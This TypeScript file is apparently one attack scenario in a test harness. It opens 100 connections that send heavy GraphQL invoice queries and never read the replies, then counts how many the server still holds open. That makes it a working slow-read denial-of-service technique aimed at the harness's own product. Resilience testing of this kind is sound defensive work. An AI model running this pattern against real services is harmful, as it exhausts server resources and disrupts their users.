import { setTimeout as pause } from 'node:timers/promises';
import type { World } from '../attack';
import { fillLongInvoices } from '../fill-invoices';
import { holdOn, leaveUnread, type Unread } from '../unread';

export const name = 'a3-unread-answers';
export const does = 'una empresa pide por GraphQL y no lee ninguna respuesta';

const CONNECTIONS = 100;
const EACH = 4;
const INVOICES = 4;
const LINES = 1_000;
const STEP_MS = 40;
const HELD_MS = 11_000;

let invoices: string[];

export async function prepare({ superuser, attackers }: World): Promise<void> {
  invoices = await fillLongInvoices(superuser, attackers[0]!, INVOICES, LINES);
}

export async function run({ product, attackers, signal }: World): Promise<string> {
  const fields = invoices.map(
    (id, n) => `a${n}: invoice(id: "${id}") { lines { description quantity price subtotal total } }`,
  );
  const body = { query: `{ ${fields.join(' ')} }` };
  const unread: Unread[] = [];
  for (let n = 0; n < CONNECTIONS && !signal.aborted; n += 1) {
    unread.push(
      leaveUnread(
        product.url,
        attackers[0]!.token,
        Array.from({ length: EACH }, () => ({ path: '/graphql', body })),
      ),
    );
    await pause(STEP_MS);
  }
  await pause(HELD_MS, undefined, { signal }).catch(() => undefined);
  // Only a connection that reads learns of its end.
  const staying = unread.map(
    ({ socket }) =>
      new Promise<boolean>(resolve => {
        socket.resume().once('close', () => resolve(false));
        setTimeout(() => resolve(true), 500);
      }),
  );
  const open = (await Promise.all(staying)).filter(Boolean).length;
  await holdOn(unread, 0, signal);
  return `de ${CONNECTIONS} conexiones que no leen seguían abiertas ${open}`;
}
